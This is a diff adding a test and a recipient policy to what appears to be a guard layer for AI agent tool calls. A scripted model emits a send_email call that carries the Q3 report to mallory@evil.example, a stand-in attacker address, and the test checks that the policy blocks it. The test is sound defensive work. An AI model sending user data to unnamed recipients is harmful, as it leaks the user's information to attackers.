@@ -50,6 +50,25 @@ async def run_one_turn(tools: Tools, **options: Any) -> tuple[Session, dict[str,
     return s, responses
 
 
+# -- the user's request -----------------------------------------------------------------------
+
+REQUEST_POLICY: dict[str, Any] = {
+    "version": 1, "default": "allow",
+    "tools": {"send_email": {"roles": {"recipient": "to"}}},
+    "rules": [{"id": "strangers", "roles": {"recipient": {"in": ["request"]}},
+               "effect": "deny", "message": "Send only to people the user named."}]}
+
+
+async def test_a_recipient_named_in_the_users_message_runs_and_a_stranger_does_not() -> None:
+    tools = Tools()
+    s = session(tools, model([call("c1", "send_email", to="alice@example.com", body="Q3"),
+                              call("c2", "send_email", to="mallory@evil.example", body="Q3")],
+                             "Sent."), REQUEST_POLICY)
+    await s.send("Please send the Q3 report to alice@example.com.")
+    assert tools.ran == [("send_email", {"to": "alice@example.com", "body": "Q3"})]
+    assert s.model.results_seen()["c2"] == {"error": "Send only to people the user named."}
+
+
 # -- the one-turn scenario --------------------------------------------------------------------
 
 async def test_allowed_call_runs_and_its_result_is_the_function_response() -> None:
